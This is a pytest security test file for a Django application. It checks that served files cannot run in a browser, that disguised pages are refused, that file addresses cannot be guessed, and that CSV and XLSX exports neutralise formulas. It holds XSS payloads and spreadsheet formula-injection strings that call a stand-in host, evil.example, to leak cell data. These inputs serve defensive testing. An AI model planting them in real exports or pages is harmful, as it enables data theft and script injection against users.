"""S3 and S4: what leaves as a file is never run by a browser, nor by a spreadsheet.

(Each file's content and headers by themselves: tests/base/test_files_serving. Who may have which
file: test_matrix.)
"""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from tests.base.corpus.office import workbook, zipped
from tests.base.corpus.pictures import picture, svg
from tests.security.doors import EVERYBODY
from tests.security.doors_city import PAPER
from tests.security.story import Everything
from tests.security.table import DOORS
from waymark.assessments.actions import diagnosing
from waymark.assessments.models import DiagnosticRun, EvidenceRevision
from waymark.assessments.rules.diagnosing import Said, token
from waymark.base.fields import new_id
from waymark.base.jobs import run_due
from waymark.community.models import Cooperation, PolicyIssue
from waymark.indicators.actions.chosen import describe_indicator
from waymark.indicators.actions.values import enter_value
from waymark.indicators.models import ImportBatch
from waymark.indicators.rules.facts import Value
from waymark.kernel.tables import unsafe_cell
from waymark.library.models import Item
from waymark.vlr.models import ReviewTie

pytestmark = pytest.mark.django_db
PAGE = b"<!doctype html><html><body><script>alert(1)</script></body></html>"
SENT = [
    ("drawing.svg", svg("<g/>"), "image/svg+xml"),
    ("notes.txt", b"<b>bold</b> and no page\n", "text/html"),
    ("photo.png", picture(), "text/html"),
    ("table.csv", b"a,b\n<b>1</b>,=1+1\n", "text/html"),
    ("book.xlsx", zipped(workbook("")), "text/html"),
]
REFUSED = [
    ("page.html", PAGE, "text/plain"),
    ("page.txt", PAGE, "text/plain"),
    ("photo.png", PAGE, "image/png"),
    ("photo.png", picture() + PAGE, "image/png"),
    ("drawing.svg", svg("<script>alert(1)</script>"), "image/svg+xml"),
    ("drawing.svg", svg('<g onload="alert(1)"/>'), "image/svg+xml"),
]


def uploaded(world: Everything, name: str, content: bytes, kind: str) -> EvidenceRevision | None:
    """Send a file by the form; return what was stored, or None."""
    before = set(EvidenceRevision.objects.values_list("pk", flat=True))
    words = {key: text for key, text in PAPER.items() if key != "url"}
    sent = SimpleUploadedFile(name, content, content_type=kind)
    path = f"/workspaces/{world.here.slug}/case/evidence/add/"
    response = world.client("editor").post(path, words | {"file": sent})
    assert response.status_code in {302, 422}
    return EvidenceRevision.objects.exclude(pk__in=before).first()


@pytest.mark.parametrize(("name", "content", "kind"), SENT)
def test_a_file_leaves_as_a_download_that_no_browser_runs(
    world: Everything, name: str, content: bytes, kind: str
) -> None:
    row = uploaded(world, name, content, kind)
    assert row
    path = f"/evidence/{row.item_id}/{row.seq}/"
    for who in ("editor", "viewer"):
        response = world.client(who).get(path)
        assert response.status_code == 200
        assert b"".join(response.streaming_content) == content
        assert response.headers["Content-Disposition"].startswith("attachment; filename=")
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["Content-Security-Policy"] == "sandbox; default-src 'none'"
        assert response.headers["Cache-Control"] == "private, no-store"
        assert response.headers["Content-Type"].partition(";")[0] not in {
            *("text/html", "application/xhtml+xml", "image/svg+xml", "text/xml"),
        }
    allowed = {"lead", "editor", "signatory", "viewer"}  # nobody else: it was not handed in
    for who in EVERYBODY - allowed:
        assert world.client(who).get(path).status_code == 404, who
        assert world.client(who).get(f"{path}preview/").status_code == 404, who


@pytest.mark.parametrize(("name", "content", "kind"), REFUSED)
def test_a_page_in_disguise_is_not_kept(
    world: Everything, name: str, content: bytes, kind: str
) -> None:
    assert uploaded(world, name, content, kind) is None


def test_an_address_of_a_file_can_not_be_guessed(world: Everything) -> None:
    item = world.here.item.pk
    made = [new_id() for _ in range(1000)]
    chance = {one[-16:] for one in made}  # 80 bits of chance, whenever they were made
    assert len(chance) == 1000
    assert len({one[10] for one in made}) == 32, "every character of chance has every value"
    blob = world.here.item.revisions.get().blob
    assert blob
    client = world.client("editor")
    near = item[:-1] + ("1" if item.endswith("0") else "0")
    for guess in (blob.sha256, blob.pk, near, item.upper(), "1"):
        assert client.get(f"/evidence/{guess}/1/").status_code == 404


# Spreadsheets

STARTS = ["=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠", '"=', " =", "'="]
FORMULAS = [f'{start}HYPERLINK("https://evil.example?"&A1)' for start in STARTS]
RUN = tuple("=+-@\t\r＝＋－＠")


def cells(world: Everything, path: str) -> list[str]:
    """Every cell of a file that a city, or a curator, takes away."""
    reader = "secretary" if path.startswith("/library/entries") else "editor"
    response = world.client(reader).get(path)
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment; filename=")
    content = b"".join(response)  # whole or in parts
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def runs(cell: str) -> bool:
    """Whether a spreadsheet might take a cell for a formula."""
    return cell.lstrip(' "').startswith(RUN) and not is_number(cell)


def fill(world: Everything) -> list[str]:
    """Put every formula into every text of the city's figures; return what was stored."""
    story, stored = world.here.story, []
    for number, formula in enumerate(FORMULAS):
        value = Value(
            period=str(2000 + number),
            value=-1.5,
            status="A",
            source=formula,
            method=formula,
            note=formula,
        )
        row = enter_value(
            place=story.place,
            indicator=world.indicator,
            value=value,
            by=story.editor,
            at=story.later(),
        )
        stored += [row.source, row.method, row.note]
    describe_indicator(
        place=story.place,
        indicator=world.indicator,
        priority=True,
        holder=FORMULAS[0],
        by=story.editor,
        at=story.later(),
    )
    Item.objects.filter(hidden_at=None).update(publisher={"en": FORMULAS[0]})  # a curator's words
    PolicyIssue.objects.update(title=FORMULAS[0], authority=FORMULAS[1])  # a city's words
    Cooperation.objects.update(title=FORMULAS[0])  # a side's words
    agreed = {"agreed_by": story.lead, "agreed_at": story.later()}
    ReviewTie.objects.update(words=FORMULAS[0], where=FORMULAS[1], **agreed)
    run = DiagnosticRun.objects.get(pk=world.here.diagnostic)
    typed = diagnosing.Typed(Said("1", FORMULAS[0]), token(Said()))
    by, at = story.editor, story.later()
    diagnosing.answer_diagnostic(run=run, typed={"G2": typed}, by=by, at=at)
    diagnosing.finish_diagnostic(run=run, by=by, at=at)
    return stored


PUBLIC = {
    *("opendata:all_csv", "opendata:indicator_csv", "indicators:publish_preview_csv"),
    *("library_csv", "library_entries_csv", "policy_csv", "vlr_links_csv", "cooperations_csv"),
}
"""What everybody takes away, a curator, and a city that looks at it before that."""


def exports(world: Everything) -> list[str]:
    """The addresses of all tables in CSV; XLSX is written from the same rows as text cells."""
    slug, code = world.here.slug, world.indicator.code
    named = {door.name for door in DOORS if door.name.endswith(("_csv", "csv"))}
    assert named <= {
        *("indicators:export_csv", "indicators:template_csv", "indicators:values_csv"),
        *PUBLIC,
        "assessments:esg_csv",  # holds nothing that anybody typed
        "assessments:diagnostic_csv",
        "scheme_template_csv",  # headings of a scheme
        "hubs_progress_csv",  # counts by goal and axis, and nothing that anybody typed
        "needs_csv",  # counts by topic and country, and nothing that anybody typed
    }, "a new export needs a line here"
    below = f"/workspaces/{slug}/indicators/"
    found = [f"{below}export.csv", f"{below}template.csv?framework=umf"]
    found += [door.path(world) for door in DOORS if door.name in PUBLIC]
    found.append(f"/workspaces/{slug}/diagnostics/{world.here.diagnostic}/answers.csv")
    return [*found, f"{below}umf/{code}/values.csv"]


def test_no_cell_of_an_export_begins_a_formula(world: Everything) -> None:
    stored = fill(world)
    run_due(timezone.now())  # what everybody sees follows
    for path in exports(world):
        found = cells(world, path)
        assert any(formula in map(unsafe_cell, found) for formula in stored) or "template" in path
        assert not [cell for cell in found if runs(cell)], path
    back = {unsafe_cell(cell) for cell in cells(world, exports(world)[0])}
    assert set(stored) <= back, "and what was typed can be had again"
    assert "-1.5" in back, "a negative number stays a number"


def test_a_workbook_holds_texts_and_no_formula(world: Everything) -> None:
    import zipfile

    fill(world)
    response = world.client("editor").get(f"/workspaces/{world.here.slug}/indicators/export.xlsx")
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        sheets = [name for name in book.namelist() if "worksheets/" in name]
        assert sheets
        assert all(b"<f>" not in book.read(name) for name in sheets)
        assert not [name for name in book.namelist() if "externalLink" in name or "vba" in name]


def test_an_export_that_is_read_again_changes_nothing(world: Everything) -> None:
    fill(world)
    path = exports(world)[0]
    content = world.client("editor").get(path).content
    sent = SimpleUploadedFile("again.csv", content, content_type="text/csv")
    client = world.client("editor")
    below = f"/workspaces/{world.here.slug}/indicators/imports/"
    response = client.post(below, {"framework": "umf", "file": sent})
    assert response.status_code == 302
    plan = ImportBatch.objects.filter(place=world.here.story.place).latest("made_at").plan
    assert (plan["values"], plan["goals"], plan["problem_count"]) == (0, 0, 0), plan["counts"]


def test_a_formula_is_noticed() -> None:
    assert all(runs(formula) for formula in FORMULAS if not formula.startswith("'"))
    assert not runs("-1.5")
    assert not runs("'=1+1")
